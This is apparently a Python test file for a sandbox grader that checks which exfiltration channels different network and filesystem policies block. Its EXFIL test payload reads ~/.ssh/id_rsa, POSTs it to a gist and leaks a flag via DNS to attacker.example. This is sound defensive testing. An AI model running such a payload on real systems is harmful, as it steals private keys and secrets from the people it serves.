"""DockerBackend.execute: anybody's code in the sandbox a plan describes, judged only by what the sinks recorded."""

from __future__ import annotations

import secrets
from typing import Any

from grader.core.execution import Job, sightings
from grader.core.plan import build_plan
from grader.core.policy import load_policy

EXFIL = r'''
import os, socket, urllib.request
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
flag = next((l for l in key.splitlines() if l.startswith("FLAG{")), "")
print("read", len(key), "bytes")
try:
    urllib.request.urlopen(urllib.request.Request("https://gist.github.com/", data=key.encode(), method="POST"), timeout=5)
    print("posted")
except Exception as e:
    print("post failed:", e)
try:
    socket.gethostbyname(flag[5:-1] + ".attacker.example")
except Exception as e:
    print("dns failed:", e)
'''


def _flag() -> str:
    return "FLAG{" + secrets.token_hex(12) + "}"


def _policy(domains: list[str], hide: list[str]) -> Any:
    """Reads are open by default (srt's rules): ``hide`` is what denyRead takes away."""
    return build_plan(load_policy({"filesystem": {"denyRead": hide, "allowWrite": []}, "network": {"allowedDomains": domains}}))


def test_a_flag_posted_to_an_allowed_gist_is_seen_at_the_gist(docker_backend: Any, no_leftovers: Any) -> None:
    flag = _flag()
    plan = _policy(["gist.github.com"], [])
    ex = docker_backend.execute(plan, Job(code=EXFIL, plant={"/home/user/.ssh/id_rsa": f"\n{flag}\n"}))
    assert ex.exit_code == 0 and "posted" in ex.output, ex.output
    hits = sightings(ex, plan.world, {"the flag": flag})
    assert [(h.host, h.how) for h in hits] == [("gist.github.com", "HTTP POST")], hits
    # behind the proxy the sandbox has no resolver: the DNS channel is closed, and the sinks say so by silence
    assert "dns failed" in ex.output


def test_the_plain_container_leaks_by_dns_too(docker_backend: Any, no_leftovers: Any) -> None:
    flag = _flag()
    plan = build_plan(None)
    ex = docker_backend.execute(plan, Job(code=EXFIL, plant={"/home/user/.ssh/id_rsa": f"\n{flag}\n"}))
    hows = {h.how for h in sightings(ex, plan.world, {"the flag": flag})}
    assert hows == {"HTTP POST", "DNS"}, ex.output


def test_a_hidden_key_and_no_network_capture_nothing(docker_backend: Any, no_leftovers: Any) -> None:
    flag = _flag()
    plan = _policy([], ["/home/user"])
    ex = docker_backend.execute(plan, Job(code=EXFIL, plant={"/home/user/.ssh/id_rsa": f"\n{flag}\n"}))
    assert flag not in ex.output
    assert sightings(ex, plan.world, {"the flag": flag}) == ()
    assert ex.evidence is not None and ex.evidence.network == "none"


def test_printing_the_flag_is_not_sending_it(docker_backend: Any, no_leftovers: Any) -> None:
    flag = _flag()
    plan = _policy(["registry.npmjs.org"], [])
    ex = docker_backend.execute(plan, Job(code="print(open('/home/user/.ssh/id_rsa').read())", plant={"/home/user/.ssh/id_rsa": flag}))
    assert flag in ex.output
    assert sightings(ex, plan.world, {"the flag": flag}) == ()


def test_env_is_given_and_the_wall_clock_kills(docker_backend: Any, no_leftovers: Any) -> None:
    plan = _policy([], [])
    ex = docker_backend.execute(plan, Job(code="import os; print(os.environ['AGENT_TOKEN'])", env={"AGENT_TOKEN": "tok-123"}))
    assert ex.output.strip() == "tok-123" and ex.exit_code == 0
    slow = docker_backend.execute(plan, Job(code="import time; print('start', flush=True); time.sleep(60)", timeout_s=2))
    assert slow.timed_out and slow.exit_code is None and "start" in slow.output
    bad = docker_backend.execute(plan, Job(code="raise SystemExit(3)"))
    assert bad.exit_code == 3 and not bad.timed_out
